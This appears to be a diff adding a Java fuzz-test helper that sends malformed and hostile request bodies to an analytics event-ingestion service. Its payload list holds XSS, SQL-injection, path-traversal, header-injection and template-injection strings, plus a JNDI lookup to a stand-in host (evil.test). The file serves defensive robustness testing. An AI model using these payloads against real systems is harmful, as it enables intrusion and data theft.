@@ -1,0 +1,141 @@
+package dev.touchstone.touchpoint.service;
+
+import java.io.ByteArrayOutputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Random;
+
+/** Bodies that nobody with good intentions sends, the same for the same seed. */
+final class HostilePayloads {
+    /** In every hostile address, so that a log can be searched for it. */
+    static final String VICTIM = "victim@example.com";
+
+    private static final List<String> TEXTS = List.of(
+            "",
+            " ",
+            "\\u0000",
+            "\\ud800",
+            "a\\r\\nSet-Cookie: stolen=1",
+            "<script>alert(document.cookie)</script>",
+            "\\\"><img src=x onerror=alert(1)>",
+            "'; DROP TABLE web_event; --",
+            "') ON CONFLICT DO NOTHING; --",
+            "${jndi:ldap://evil.test/a}",
+            "{{7*7}}",
+            "../../../../etc/passwd",
+            "\\u202e\\u0007\\u001b[31m",
+            "👩‍👩‍👧‍👦",
+            "https://acme.com/?mailId=" + VICTIM,
+            "https://user:password@acme.com/",
+            "https://acme.com/%00%ff%c0%ae",
+            "javascript:alert(1)",
+            "https://acme.com/?a=" + "b".repeat(3_000),
+            VICTIM,
+            "x".repeat(300) + VICTIM,
+            "page",
+            "-1",
+            "1e999");
+    private static final List<String> VALUES = List.of(
+            "null", "true", "-1", "1e400", "9".repeat(60), "[]", "{}", "[[[]]]", "\"\"", "0.1", "{\"type\":\"page\"}");
+    private static final List<String> FIELDS = List.of(
+            "id", "seq", "time", "type", "url", "referrer", "email", "form", "alias", "visitorId", "sentAt", "consent");
+
+    private final Random random;
+    private final String writeKey;
+    private final long now;
+
+    HostilePayloads(long seed, String writeKey, long now) {
+        this.random = new Random(seed);
+        this.writeKey = writeKey;
+        this.now = now;
+    }
+
+    /** A body; {@code name} makes the ids of its events different from all others. */
+    byte[] next(String name) {
+        return switch (random.nextInt(8)) {
+            case 0, 1, 2 -> bytes(batch(name, true));
+            case 3 -> damaged(bytes(batch(name, false)));
+            case 4 -> deep();
+            case 5 -> noise(random.nextInt(2_000));
+            case 6 -> bytes(batch(name, false));
+            default -> random.nextInt(20) == 0 ? bytes(huge(name)) : damaged(bytes(batch(name, true)));
+        };
+    }
+
+    /** Bytes that are no text at all. */
+    byte[] noise(int length) {
+        byte[] bytes = new byte[length];
+        random.nextBytes(bytes);
+        return bytes;
+    }
+
+    /** Some bytes changed, taken out or put in. */
+    byte[] damaged(byte[] body) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        int damage = 1 + random.nextInt(3);
+        for (byte b : body) {
+            if (damage > 0 && random.nextInt(body.length) < 3) {
+                damage--;
+                switch (random.nextInt(3)) {
+                    case 0 -> out.write(random.nextInt(256));
+                    case 1 -> out.writeBytes(noise(random.nextInt(4)));
+                    default -> out.writeBytes(new byte[] {b, b});
+                }
+            } else {
+                out.write(b);
+            }
+        }
+        byte[] bytes = out.toByteArray();
+        return random.nextInt(4) == 0 ? java.util.Arrays.copyOf(bytes, random.nextInt(bytes.length + 1)) : bytes;
+    }
+
+    private String batch(String name, boolean hostile) {
+        List<String> events = new ArrayList<>();
+        int count = 1 + random.nextInt(4);
+        for (int i = 0; i < count; i++) {
+            events.add(event(name + "-" + i, hostile));
+        }
+        String more = hostile && random.nextInt(3) == 0 ? ",\"" + text() + "\":" + value() : "";
+        return "{\"writeKey\":\"" + writeKey + "\",\"sentAt\":" + now + ",\"visitorId\":\"v-" + random.nextInt(50)
+                + "\",\"events\":[" + String.join(",", events) + "]" + more + "}";
+    }
+
+    private String event(String id, boolean hostile) {
+        List<String> fields = new ArrayList<>(List.of(
+                "\"id\":\"" + id + "\"",
+                "\"time\":" + (now - random.nextInt(100_000)),
+                "\"type\":\"page\"",
+                "\"url\":\"https://acme.com/" + random.nextInt(9) + "\""));
+        if (hostile) {
+            String field = FIELDS.get(random.nextInt(FIELDS.size()));
+            fields.removeIf(known -> known.startsWith("\"" + field + "\"") && !field.equals("id"));
+            if (!field.equals("id")) {
+                fields.add("\"" + field + "\":" + (random.nextBoolean() ? "\"" + text() + "\"" : value()));
+            }
+        }
+        return "{" + String.join(",", fields) + "}";
+    }
+
+    private String huge(String name) {
+        return batch(name, false).replace("https://acme.com/", "https://acme.com/" + "u".repeat(1_000_000));
+    }
+
+    private byte[] deep() {
+        int depth = 100 + random.nextInt(20_000);
+        String open = random.nextBoolean() ? "[" : "{\"a\":";
+        return bytes("{\"writeKey\":\"" + writeKey + "\",\"events\":" + open.repeat(depth));
+    }
+
+    private String text() {
+        return TEXTS.get(random.nextInt(TEXTS.size()));
+    }
+
+    private String value() {
+        return VALUES.get(random.nextInt(VALUES.size()));
+    }
+
+    private static byte[] bytes(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+}
